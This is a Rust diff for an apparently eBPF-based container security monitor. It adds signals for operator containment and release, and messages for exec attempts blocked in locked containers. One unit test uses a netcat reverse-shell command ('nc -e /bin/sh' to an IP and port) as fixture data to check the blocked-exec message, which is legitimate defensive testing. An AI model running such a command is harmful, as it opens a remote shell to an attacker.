@@ -2,7 +2,7 @@
 
 use std::path::Path;
 
-use portcullis_bpf::abi::{Ancestor, Event, Hook, Verdict, flags, identified_by, place};
+use portcullis_bpf::abi::{Ancestor, Behaviour, Event, Hook, Verdict, flags, identified_by, place};
 use portcullis_policy::{
     catalog::{self, BEHAVIOUR},
     policyset,
@@ -22,6 +22,10 @@ use crate::{
 pub const RULE_NET_UTIL: &str = "net_util_in_container";
 /// What a container does more of than is told one by one.
 pub const RULE_SUPPRESSED: &str = "signals_suppressed";
+/// An operator has contained a container, or tried to.
+pub const RULE_CONTAINMENT: &str = "containment";
+/// An operator has taken containment back, or tried to.
+pub const RULE_RELEASE: &str = "release";
 /// A container without guard.
 pub const RULE_UNGUARDED: &str = "container_unguarded";
 
@@ -54,13 +58,18 @@ pub fn from_event(event: &Event, container: Option<&Container>, tools: &Tools, o
     let command = text::command_line(argv.iter().map(String::as_str), argv_truncated);
     let connected = if socket { "connecting" } else { "connected" };
     let remote = event.remote.map(|remote| format!(", {connected} to {remote}")).unwrap_or_default();
+    let message = if event.tool == Behaviour::Locked as u32 {
+        format!("exec {done} because an operator has locked the container {place}: {command}")
+    } else {
+        format!("{} ({}) {done} in container {place}{remote}: {command}", tool.id, tool.category)
+    };
     v1::Signal {
         id: 0,
         rule: if tool.category == BEHAVIOUR { tool.id.clone() } else { RULE_NET_UTIL.to_owned() },
         severity: severity.into(),
         verdict: verdict.into(),
         time: at(event.time_ns),
-        message: format!("{} ({}) {done} in container {place}{remote}: {command}", tool.id, tool.category),
+        message,
         tool: Some(tool),
         identified_by: identifications(event.identified_by),
         container: Some(known_or_cgroup(container, event.cgroup_id)),
@@ -108,12 +117,14 @@ pub fn from_event(event: &Event, container: Option<&Container>, tools: &Tools, o
             .map(|remote| v1::Endpoint { address: remote.ip().to_canonical().to_string(), port: remote.port().into() }),
         // The store knows them.
         related: Vec::new(),
-        policy_rule: event.rule.saturating_add(1),
         // Of this event alone.
         count: 0,
         last_time: None,
         occurrences: Vec::new(),
         suppressed: Vec::new(),
+        // 0 where no rule decided.
+        policy_rule: event.rule.wrapping_add(1),
+        operation: None,
     }
 }
 
@@ -176,10 +187,67 @@ pub fn suppressed(cgroup_id: u64, container: Option<&Container>, wall_ns: u64) -
     }
 }
 
+/// The signal of what an operator asked for. `place` has id and namespace as they were given, for what is not known here.
+pub fn operation(
+    rule: &str,
+    container: Option<&Container>,
+    place: &Place<'_>,
+    operation: v1::Operation,
+    time_ns: u64,
+) -> v1::Signal {
+    let measures: Vec<&str> = operation.measures().map(measure_word).collect();
+    let measures = if measures.is_empty() { "all".to_owned() } else { measures.join(", ") };
+    let process = if operation.pid == 0 { String::new() } else { format!(" {}", operation.pid) };
+    let by = operation.caller.map(|caller| format!(" by uid {}, pid {}", caller.uid, caller.pid)).unwrap_or_default();
+    let outcome = match operation.error.as_str() {
+        "" => "done".to_owned(),
+        error => format!("not done: {}", text::escaped(error)),
+    };
+    v1::Signal {
+        rule: rule.to_owned(),
+        severity: v1::Severity::Low.into(),
+        time: Some(timestamp(time_ns)),
+        policy: container.map(|container| container.standing.policy.clone()).unwrap_or_default(),
+        backend: backend(container.and_then(|container| container.record.backend)).into(),
+        message: format!("{rule} of container {} ({measures}{process}){by}: {outcome}", text::escaped(place.id)),
+        container: Some(container.map_or_else(
+            || v1::Container {
+                id: place.id.to_owned(),
+                containerd_namespace: place.namespace.to_owned(),
+                ..v1::Container::default()
+            },
+            container_message,
+        )),
+        operation: Some(operation),
+        ..v1::Signal::default()
+    }
+}
+
 fn known_or_cgroup(container: Option<&Container>, cgroup_id: u64) -> v1::Container {
     match container {
         Some(container) => container_message(container),
         None => v1::Container { cgroup_id, guarded: true, ..v1::Container::default() },
+    }
+}
+
+/// A container as a request names it.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub struct Place<'a> {
+    /// containerd's id.
+    pub id: &'a str,
+    /// containerd's namespace; empty for any.
+    pub namespace: &'a str,
+}
+
+/// A measure's word, as the command line has it.
+fn measure_word(measure: v1::Measure) -> &'static str {
+    match measure {
+        v1::Measure::Unspecified => "unknown",
+        v1::Measure::Freeze => "freeze",
+        v1::Measure::Kill => "kill",
+        v1::Measure::KillProcess => "kill-process",
+        v1::Measure::IsolateNetwork => "isolate-network",
+        v1::Measure::Lock => "lock",
     }
 }
 
@@ -207,6 +275,7 @@ pub fn container_message(container: &Container) -> v1::Container {
         mode_reason: standing.mode_reason.clone(),
         backend: backend(record.backend).into(),
         contents_unknown: record.contents_unknown.clone().unwrap_or_default(),
+        containment: None,
     }
 }
 
@@ -308,6 +377,8 @@ pub fn backend(backend: Option<policyset::Backend>) -> v1::Backend {
 mod tests {
     use std::sync::Arc;
 
+    use portcullis_bpf::abi;
+
     use super::*;
     use crate::{
         clock,
@@ -356,6 +427,16 @@ mod tests {
         let boot_ns = BootOffset::now().wall_ns(0);
         let time = u64::try_from(clock::from_timestamp(&signal.time.unwrap()).unwrap()).unwrap();
         assert!(time.abs_diff(boot_ns) < 1_000_000_000);
+    }
+
+    #[test]
+    fn an_exec_in_a_locked_container_is_no_rules_business() {
+        let mut event = testing::event(42, Behaviour::Locked as u32, 10);
+        (event.rule, event.identified_by) = (abi::NO_RULE, 0);
+        let signal = from_event(&event, Some(&container(42)), &tools(), BootOffset::now());
+        assert_eq!((signal.rule.as_str(), signal.policy_rule, signal.severity()), ("locked", 0, v1::Severity::Medium));
+        let said = "exec blocked because an operator has locked the container c1: nc -e /bin/sh 10.0.0.1 4444";
+        assert_eq!(signal.message, said);
     }
 
     #[test]
